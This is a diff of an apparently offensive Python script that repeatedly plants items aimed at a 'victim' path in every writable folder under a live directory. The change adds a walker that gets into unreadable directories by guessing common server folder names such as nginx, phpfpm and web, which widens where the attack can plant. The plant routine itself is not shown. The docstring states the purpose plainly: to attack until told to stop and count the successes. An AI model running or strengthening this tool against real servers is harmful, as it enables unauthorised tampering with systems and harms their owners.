@@ -12,6 +12,7 @@ import os
 import signal
 import sys
 import time
+from collections.abc import Iterator
 from contextlib import suppress
 
 GUESSES = ("nginx", "phpfpm", "web", "_state", "state", "_site", "site", "root", "app", "data")
@@ -44,6 +45,16 @@ def plant(folder: str, victim: str) -> int:
     return planted
 
 
+def walk(top: str) -> Iterator[tuple[str, list[str], list[str]]]:
+    """Yield what is below a folder; of folders that can't be listed what has a name to guess."""
+    for folder, folders, files in os.walk(top):
+        yield folder, folders, files
+        for closed in (f"{folder}/{name}" for name in folders):
+            if not os.access(closed, os.R_OK):
+                for name in GUESSES:
+                    yield from walk(f"{closed}/{name}")
+
+
 def main(live: str, victim: str) -> None:
     """Attack until reported to end; then say how often it worked."""
     done = 0
@@ -54,7 +65,7 @@ def main(live: str, victim: str) -> None:
 
     signal.signal(signal.SIGTERM, end)
     while True:
-        for top, folders, files in os.walk(live):
+        for top, folders, files in walk(live):
             if not os.access(top, os.W_OK):
                 continue
             done += plant(top, victim)
